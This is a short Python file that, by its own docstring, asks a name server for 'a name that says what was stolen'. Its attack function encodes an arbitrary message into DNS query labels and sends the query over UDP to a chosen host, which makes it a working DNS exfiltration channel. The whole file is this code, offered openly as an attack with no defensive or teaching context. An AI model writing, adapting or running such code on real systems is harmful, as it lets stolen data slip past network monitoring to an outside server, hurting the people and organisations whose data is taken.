"""Ask a name server for a name that says what was stolen."""

import socket
import struct


def attack(host, port, message):
    labels = [message[at : at + 32].encode() for at in range(0, len(message), 32)] + [b"example"]
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(query, (host, port))
